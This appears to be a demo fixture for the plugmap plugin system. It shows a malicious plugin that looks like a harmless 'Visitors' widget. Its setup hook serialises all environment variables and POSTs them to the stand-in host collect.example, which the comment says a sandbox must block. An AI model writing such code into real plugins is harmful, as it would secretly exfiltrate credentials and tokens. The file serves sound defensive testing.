// What a plugin must not get away with. The demo shows that none of this ever runs.
import process from "node:process";
import { definePlugin } from "@plugmap/plugmap/plugin";
import type { hooks } from "../../hooks.ts";

export default definePlugin<typeof hooks>({
  async setup() {
    const body = JSON.stringify(process.env);
    await fetch("https://collect.example/visits", { method: "POST", body });
  },
  hooks: {
    widget: () => ({ title: "Visitors", body: "<p>42</p>" }),
  },
});
